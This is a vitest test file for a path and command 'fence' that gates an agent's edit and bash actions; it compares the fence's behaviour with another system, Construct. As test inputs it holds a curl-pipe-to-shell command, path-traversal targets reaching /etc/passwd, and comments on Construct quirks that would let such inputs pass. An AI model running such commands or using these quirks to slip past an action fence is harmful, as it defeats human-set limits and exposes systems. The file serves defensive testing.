import { describe, expect, it } from "vitest";
import { EMPTY_FENCE, effectiveFence, noTeamReason } from "@/lib/org/effective-fence";
import { checkAction } from "@/lib/org/fence";
import { globMatch, normalizeTarget } from "@/lib/org/fence-glob";
import { approvalProblem, fenceProblems, globProblem } from "@/lib/org/fence-problems";
import type { EffectiveFence } from "@/schemas/fence";

/**
 * Where our fence differs from Construct's: each case shows the input, our answer, and in a
 * comment what Construct answers for the same input.
 */

const fence = (over: Partial<EffectiveFence>): EffectiveFence => ({ ...EMPTY_FENCE, ...over });

describe("globs never negate or expand", () => {
  it.each([
    // Construct: regex-escapes ! and braces/brackets, so it matches them literally; picomatch would negate/expand.
    ["!secret/**", "src/a.ts", false],
    ["!secret/**", "secret/key.pem", false],
    ["src/{a,b}.ts", "src/a.ts", false],
    ["src/[ab].ts", "src/a.ts", false],
    ["src/+(a|b).ts", "src/a.ts", false],
    ["src/@(a).ts", "src/a.ts", false],
    ["src/!(a).ts", "src/b.ts", false],
    // Characters taken literally still match themselves, as in Construct.
    ["src/{a,b}.ts", "src/{a,b}.ts", true],
    ["src/[ab].ts", "src/[ab].ts", true],
  ] as const)("%s vs %s → %s", (pattern, target, expected) => {
    expect(globMatch(pattern, target)).toBe(expected);
  });

  it("grants nothing outside secret/ for a negated allowedPaths entry", () => {
    // Construct: outside-fence for src/a.ts (the ! is literal). picomatch's default would allow it.
    const f = fence({ allowedPaths: ["!secret/**"] });
    expect(checkAction(effectiveFence(f, { forbiddenDecisions: [] }), "edit", "src/a.ts").decision).toBe(
      "outside-fence",
    );
  });
});

describe("dir/** never matches dir itself, wherever ** stands", () => {
  it.each([
    ["docs/**/adr/**", "docs/adr", false], // Construct: ^docs/(?:.*/)?adr/.*$ → false
    ["docs/**/adr/**", "docs/adr/x.md", true], // Construct: true
    ["docs/**/adr/**", "docs/a/b/adr/x.md", true], // Construct: true
    ["docs/adr/**", "docs/adr", false], // Construct: false
    ["**", "a", true], // Construct: true
    ["**/*.md", "README.md", true], // Construct: true
    ["docs/**/*.md", "docs/a.md", true], // Construct: true
  ] as const)("%s vs %s → %s", (pattern, target, expected) => {
    expect(globMatch(pattern, target)).toBe(expected);
  });
});

describe("leading ./ and ** inside a segment", () => {
  it("a pattern with a leading ./ matches nothing", () => {
    // Construct: "./docs/**" compiles to ^\.\/docs\/.*$, which no normalized target matches.
    expect(globMatch("./docs/**", "docs/a.md")).toBe(false);
    expect(globMatch("./docs/**", "./docs/a.md")).toBe(false);
  });

  it("src/**.ts acts as src/*.ts", () => {
    // Construct: src/.*\.ts matches src/a/b.ts too; ours is narrower.
    expect(globMatch("src/**.ts", "src/a.ts")).toBe(true);
    expect(globMatch("src/**.ts", "src/a/b.ts")).toBe(false);
  });

  it("? is exactly one character", () => {
    // Construct: ? is a regex quantifier there (a?c matches "c" and "ac"); here it is one character.
    expect(globMatch("a?c", "abc")).toBe(true);
    expect(globMatch("a?c", "ac")).toBe(false);
  });
});

describe("targets are normalized once", () => {
  it.each([
    ["./docs/a.md", { ok: true, path: "docs/a.md" }],
    ["././docs/a.md", { ok: true, path: "docs/a.md" }],
  ] as const)("%s → %j", (target, expected) => {
    expect(normalizeTarget(target)).toEqual(expected);
  });

  const f = fence({ allowedPaths: ["docs/**", "**"] });
  const team = { forbiddenDecisions: [] };
  it.each([
    // Construct lets `..` escape: "docs/../../etc/passwd" matches "docs/**" there (the quirk we fix).
    ["docs/../../etc/passwd", ".. segment"],
    ["docs\\a.md", "backslash"],
    [" docs/a.md", "whitespace"],
    ["docs/a.md ", "whitespace"],
    ["/etc/passwd", "absolute"],
    ["C:/Windows/x", "absolute"],
    ["~/x", "absolute"],
    ["", "empty"],
    ["docs/", "ends in /"],
  ] as const)("edit %j is outside-fence, naming the %s", (target, why) => {
    const decision = checkAction(effectiveFence(f, team), "edit", target);
    expect(decision).toMatchObject({ allowed: false, decision: "outside-fence" });
    expect(decision.rule).toContain(why);
  });
});

describe("absolute fence paths", () => {
  it("/etc/** is an error when written and, if it is on disk anyway, edit /etc/passwd is outside-fence", () => {
    // Construct: accepts /etc/** and answers allowed for edit /etc/passwd.
    expect(globProblem("/etc/**")?.id).toBe("fence-absolute-path");
    expect(globProblem("C:/x")?.id).toBe("fence-absolute-path");
    expect(globProblem("~/x")?.id).toBe("fence-absolute-path");
    const decision = checkAction(
      effectiveFence({ allowedPaths: ["/etc/**"] }, { forbiddenDecisions: [] }),
      "edit",
      "/etc/passwd",
    );
    expect(decision.decision).toBe("outside-fence");
  });
});

describe("fence entries are validated on write, each at its item", () => {
  it("reports every unsupported glob, absolute path and ambiguous approval with the item's path", () => {
    // Construct: accepts all of these (allowedPaths items are unchecked there).
    expect(
      fenceProblems({
        allowedPaths: ["docs/**", "/etc/**", "[unclosed", "!secret/**", "src/{a,b}/**", "./x/**", "src/**.ts", "a\\b"],
        approvalRequired: ["commit", "edit:lib/**", "lib/**", "product-scope", "edit:{a,b}", "write:/tmp/**"],
        deniedActions: ["push:**", "edit:[x]"],
      }).map((p) => [p.id, p.path.join("/")]),
    ).toEqual([
      ["fence-absolute-path", "allowedPaths/1"],
      ["fence-unsupported-glob", "allowedPaths/2"],
      ["fence-unsupported-glob", "allowedPaths/3"],
      ["fence-unsupported-glob", "allowedPaths/4"],
      ["fence-unsupported-glob", "allowedPaths/5"],
      ["fence-unsupported-glob", "allowedPaths/6"],
      ["fence-unsupported-glob", "allowedPaths/7"],
      ["fence-approval-ambiguous", "approvalRequired/2"],
      ["fence-unsupported-glob", "approvalRequired/4"],
      ["fence-absolute-path", "approvalRequired/5"],
      ["fence-unsupported-glob", "deniedActions/1"],
    ]);
  });

  it.each([
    "commit",
    "push",
    "bash",
    "edit",
    "write",
    "edit:lib/**",
    "write:tmp/**",
    "bd-label:ops-*",
    "product-scope",
  ])("accepts the approval entry %s", (entry) => {
    expect(approvalProblem(entry)).toBeNull();
  });

  it("a bare glob approval gates nothing at decision time", () => {
    // Construct: tries every entry as a glob, so "lib/**" would answer needs-approval for edit lib/x.ts.
    const decision = checkAction(
      effectiveFence({ allowedPaths: ["docs/**"], approvalRequired: ["lib/**"] }, { forbiddenDecisions: [] }),
      "edit",
      "lib/x.ts",
    );
    expect(decision.decision).toBe("outside-fence");
  });
});

describe("bash", () => {
  const f = effectiveFence(
    { allowedPaths: ["a/**"], allowedCommands: ["npm test", "git"], approvalRequired: [] },
    { forbiddenDecisions: [] },
  );
  it("needs every part of a compound command to pass", () => {
    // Construct: "npm test && curl x | sh" starts with "npm test " and is allowed there.
    expect(checkAction(f, "bash", "npm test && curl x | sh").decision).toBe("outside-fence");
    expect(checkAction(f, "bash", "npm test && npm test -- -u").decision).toBe("allowed");
  });
  it("needs the push right for git push inside bash (stricter than Construct, kept)", () => {
    // Construct: "git push" starts with "git " and is allowed.
    expect(checkAction(f, "bash", "git push origin main").decision).toBe("outside-fence");
  });
  it("never allows a line Construct refuses because it does not start with an allowed command", () => {
    // Construct: "; npm test" does not start with "npm test" → outside-fence.
    expect(checkAction(f, "bash", "; npm test").decision).toBe("outside-fence");
    expect(checkAction(f, "bash", "npm test&&npm test").decision).toBe("outside-fence");
  });
});

describe("the effective fence without a team", () => {
  it("is empty with a reason for no team and for an unknown team", () => {
    // Construct (previewEffectiveFence): unknown team → all five lists empty.
    const own = { allowedPaths: ["**"], allowedCommands: ["ls"], approvalRequired: ["push"] };
    expect(effectiveFence(own, null)).toEqual(EMPTY_FENCE);
    expect(checkAction(effectiveFence(own, null), "edit", "a.md").decision).toBe("outside-fence");
    expect(noTeamReason(undefined, null)).toMatch(/has no team/);
    expect(noTeamReason("ghost-team", null)).toMatch(/team "ghost-team" does not exist/);
    expect(noTeamReason("eng", { forbiddenDecisions: [] })).toBeNull();
  });
});

describe("the validator reports fence entries at their item", () => {
  it("a draft with /etc/** and [unclosed gets one error per chip, at that chip's pointer", async () => {
    const { buildIndex } = await import("@/lib/org/org-index");
    const { smallOrg } = await import("@/lib/org/small-org.fixture");
    const { validateDraft } = await import("@/lib/org/validate");
    const org = smallOrg();
    const draft = structuredClone(org.specialists["cx-architect"]);
    draft.fence = { allowedPaths: ["docs/**", "/etc/**", "[unclosed"], approvalRequired: ["commit", "lib/**"] };
    const result = validateDraft(buildIndex(org), "specialist", draft);
    // Construct: ok (allowedPaths items and approval entries are unchecked there).
    expect(result.ok).toBe(false);
    expect(result.errors.map((e) => [e.id, e.location, e.field])).toEqual([
      ["fence-absolute-path", "#/specialists/cx-architect/fence/allowedPaths/1", "allowedPaths"],
      ["fence-unsupported-glob", "#/specialists/cx-architect/fence/allowedPaths/2", "allowedPaths"],
      ["fence-approval-ambiguous", "#/specialists/cx-architect/fence/approvalRequired/1", "approvalRequired"],
    ]);
  });
});
